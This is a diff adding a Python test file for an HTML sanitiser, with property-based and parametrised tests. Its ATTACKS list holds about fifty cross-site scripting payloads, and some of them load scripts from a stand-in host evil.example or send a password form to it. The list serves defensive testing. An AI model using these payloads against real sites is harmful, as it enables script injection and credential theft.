@@ -1,0 +1,132 @@
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from shopfolio.lib.html import TAGS, plain, safe, sanitise
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+    '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    '<a href="blob:https://evil.example/1">x</a>',
+    '<a href="https://example.org" onclick="alert(1)">x</a>',
+    '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
+    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
+    '<p style="background:url(javascript:alert(1))">x</p>',
+    '<p onmouseover="alert(1)">x</p>',
+    "<p id=cookie class=admin data-x=1>x</p>",
+    "<style>body{display:none}</style>",
+    "<style>@import '//evil.example/x.css';</style>",
+    '<link rel="stylesheet" href="//evil.example/x.css">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    '<base href="//evil.example/">',
+    '<form action="//evil.example"><input name=password><button>Log in</button></form>',
+    '<button formaction="javascript:alert(1)">x</button>',
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<input autofocus onfocus=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- comment --><![CDATA[<script>alert(1)</script>]]>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
+    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
+]
+ALLOWED = {"a": {"href", "rel"}, "th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"}}
+
+
+class Reader(HTMLParser):
+    """Collects what a browser would be told that the sanitiser must never tell it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.wrong: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in TAGS:
+            self.wrong.append(tag)
+        for name, value in attrs:
+            address = "".join(value or "").strip().lower()
+            if name not in ALLOWED.get(tag, set()):
+                self.wrong.append(f"{tag} {name}")
+            if name == "href" and ":" in address and not address.startswith(("https:", "http:", "mailto:")):
+                self.wrong.append(f"{tag} {name}={value}")
+
+    def handle_comment(self, data: str) -> None:
+        self.wrong.append(f"comment {data}")
+
+
+def wrong_in(text: str) -> list[str]:
+    reader = Reader()
+    reader.feed(text)
+    reader.close()
+    return reader.wrong
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_loses_its_teeth(attack: str) -> None:
+    assert wrong_in(attack) or "CDATA" in attack or "\x00" in attack, "the reader must see the attack itself"
+
+    cleaned = safe(f"<p>before</p>{attack}<p>after</p>")
+
+    assert wrong_in(cleaned) == []
+    assert "before" in cleaned
+
+
+@given(st.text(alphabet="<>/\"'=&; \x00abhrefscriptonl:#jv!-", max_size=80))
+def test_no_text_gets_past_the_sanitiser(text: str) -> None:
+    cleaned = sanitise(text)
+
+    assert wrong_in(cleaned) == []
+    assert sanitise(cleaned) == cleaned
+
+
+def test_what_an_author_may_write_stays() -> None:
+    text = "<h2>Title</h2><p>A <strong>strong</strong> <em>word</em>.</p><ul><li>One</li></ul><hr>"
+
+    assert sanitise(text) == text
+
+
+def test_links_say_that_they_lead_away() -> None:
+    assert sanitise('<a href="https://example.org/?a=1&amp;b=2">x</a>') == (
+        '<a href="https://example.org/?a=1&amp;b=2" rel="noopener nofollow">x</a>'
+    )
+
+
+@pytest.mark.parametrize("empty", ["", "  ", "<p></p>", "<p><br></p>", "<script></script>"])
+def test_an_empty_paragraph_is_no_text(empty: str) -> None:
+    assert sanitise(empty) == ""
+
+
+def test_plain_text_has_words_and_no_tags() -> None:
+    assert plain("<p>One &amp; two</p><p>three<br>four &lt;b&gt;</p>") == "One & two three four <b>"
